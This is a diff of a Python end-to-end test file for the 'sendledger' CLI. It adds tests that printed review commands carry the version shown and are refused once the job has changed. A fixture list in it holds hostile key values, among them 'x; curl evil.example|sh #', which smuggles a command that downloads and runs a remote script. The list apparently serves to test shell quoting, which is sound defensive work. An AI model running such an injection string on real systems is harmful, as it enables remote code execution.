@@ -10,6 +10,8 @@ from typing import Any
 import pytest
 from tests.e2e.test_cli_audit import escalate
 
+from ledger.application import Ledger
+
 HOSTILE = ["victim-job --as resend #", "x; curl evil.example|sh #"]
 
 
@@ -34,8 +36,31 @@ def test_review_show_quotes_the_key_in_every_suggested_command(cli: Any, key: st
     resolves = [shlex.split(line) for line in lines if line.startswith("  sendledger review")]
     assert [argv[:5] for argv in resolves] == [["sendledger", "review", "resolve", key, "--as"]] * 3
     assert [argv[5] for argv in resolves] == ["sent", "resend", "abandon"]
-    assert resolves[0][6:] == ["--note", "how you know it was sent"]  # no copy found yet
+    # Each holds for the version shown (docs/review.md "Two people, one job").
+    version = str(cli.run("status", key, "--json").json()["version"])
+    assert [argv[6:8] for argv in resolves] == [["--expected-version", version]] * 3
+    assert resolves[0][8:] == ["--note", "how you know it was sent"]  # no copy found yet
     assert any(line.startswith("why: The provider may or may not") for line in lines), lines
+
+
+def test_a_decision_review_show_printed_is_refused_once_the_job_moved(cli: Any) -> None:
+    """A person reads `review show` and later runs the abandon command it printed;
+    meanwhile another person's check was recorded (the job still in review): the command
+    holds for the version shown, so it is exit 3 naming what changed, and nothing is
+    decided on a job the person did not see."""
+    submit(cli, "seen")
+    escalate(cli, "seen")
+    lines = cli.run("review", "show", "seen").stdout.splitlines()
+    [abandon] = [shlex.split(line) for line in lines if "--as abandon" in line]
+    with Ledger(f"sqlite:///{cli.root / 'ledger.sqlite'}") as ledger:
+        ledger.update(
+            "seen",
+            lambda j: j.record_check(by="bob", purpose="check", query="q", copies=[],
+                                     at=ledger.clock()),
+        )  # fmt: skip
+    ran = cli.run(*abandon[1:])
+    assert ran.code == 3 and "checked by bob" in ran.stderr, ran.stderr
+    assert cli.run("status", "seen", "--json").json()["state"] == "review"
 
 
 def test_cancel_then_exit_3_naming_the_state(cli: Any) -> None:
